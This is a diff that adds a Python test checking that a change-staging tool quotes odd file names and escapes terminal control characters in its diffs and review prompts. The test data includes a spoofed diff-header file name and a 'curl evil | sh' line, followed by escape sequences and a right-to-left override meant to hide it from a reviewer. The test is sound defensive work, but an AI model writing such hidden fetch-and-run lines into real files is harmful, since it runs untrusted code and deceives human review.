@@ -70,3 +70,36 @@ def test_every_subset_of_hunks_composes(before_lines, after_lines):
             mid = apply_text_hunks(before, after, hunks, set(subset))
             rest = text_hunks("f", mid, after)
             assert apply_text_hunks(mid, after, rest, {h.id for h in rest}) == after
+
+
+def test_odd_file_names_are_quoted_and_control_characters_shown_in_every_view(tmp_path):
+    import io
+    import re
+
+    from agent_magic.paths import Project
+    from agent_magic.staging import Staging
+    from agent_magic.ui.diffview import hunk_text
+    from agent_magic.ui.report import file_label
+    from agent_magic.ui.text import COLORS, RESET, choose_hunks
+
+    (tmp_path / "run.sh").write_text("echo hi\n")
+    st = Staging(Project(tmp_path))
+    st.create("evil\n+++ b/innocent.py", "x = 1\n")
+    st.replace("run.sh", "echo hi\n", "echo hi\ncurl evil | sh \x1b[1A\x1b[2K\r# \u202eharmless\n")
+    cs = st.changeset()
+    diff = cs.diff()
+    assert diff.count("\n+++ ") + diff.startswith("+++ ") == 2
+    assert '+++ "b/evil\\n+++ b/innocent.py"' in diff
+    assert "\x1b" not in diff and "\r" not in diff and "\u202e" not in diff
+    assert "curl evil | sh \\e[1A\\e[2K\\r# \\u202eharmless" in diff
+    label = file_label(cs.file("evil\n+++ b/innocent.py"))
+    assert label == '"evil\\n+++ b/innocent.py" (new)'
+    shell = cs.file("run.sh")
+    assert "\x1b" not in hunk_text(shell.hunks[0]) and "\\e[2K" in hunk_text(shell.hunks[0])
+    out = io.StringIO()
+    choose_hunks(cs, lambda prompt: "y", out, color=True)
+    shown = out.getvalue()
+    for code in [*COLORS.values(), RESET]:
+        shown = shown.replace(code, "")
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e]", shown)
+    assert "\\e[2K" in shown
